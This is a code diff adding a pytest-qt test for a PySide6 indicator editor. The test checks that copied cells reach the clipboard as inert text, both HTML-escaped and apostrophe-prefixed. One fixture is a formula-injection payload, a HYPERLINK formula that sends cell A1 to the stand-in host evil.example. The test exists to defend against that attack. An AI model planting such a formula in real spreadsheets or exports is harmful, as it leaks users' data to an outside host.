@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import html
+import re
 from collections.abc import Iterator
+from dataclasses import replace
 
 import pytest
 from PySide6.QtCore import QModelIndex, Qt
@@ -501,3 +504,28 @@ def test_paste_naming_an_unknown_level1_is_refused_with_its_name(
     qtbot.keyClick(editor.view(), Qt.Key.Key_V, CTRL)
     assert project.indicators == sample_project().indicators
     assert len(messages) == 1 and "“项目完成指标”不是本版式的一级指标" in messages[0]
+
+
+def test_copy_puts_formula_like_values_on_the_clipboard_as_text(
+    qtbot: QtBot, editor: IndicatorEditor, project: Project, stack: QUndoStack, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Issue 17, item 10: Excel/WPS evaluate pasted "=HYPERLINK(…)"; the HTML flavour types every cell as text."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    project.indicators[0] = replace(project.indicators[0], name="@SUM(A1:A9)", value=hostile)
+    editor.set_project(project, get_layout("ah-project"))
+    go(editor, QTY, 0)
+    qtbot.keyClick(editor.view(), Qt.Key.Key_C, CTRL)
+    data = QGuiApplication.clipboard().mimeData()
+    assert data.hasHtml() and data.hasText()
+    page = data.html()
+    assert "<table>" in page and 'x:str style="mso-number-format:' in page and "\\@" in page
+    assert html.escape(hostile) in page and hostile not in page  # escaped: the markup cannot be broken out of
+    cells = re.findall(r"<td x:str[^>]*>(.*?)</td>", page)
+    assert cells[:4] == ["产出指标", "数量指标", "@SUM(A1:A9)", html.escape(hostile)]
+    assert data.text().splitlines()[1] == f"产出指标\t数量指标\t'@SUM(A1:A9)\t'{hostile}"
+    # Pasting our own copy back restores the values without the apostrophes.
+    messages: list[str] = []
+    monkeypatch.setattr(editor, "show_message", lambda title, text: messages.append(text))
+    qtbot.keyClick(editor.view(), Qt.Key.Key_V, CTRL)
+    assert project.indicators[1] == project.indicators[0] and project.indicators[1].value == hostile
+    assert messages == []
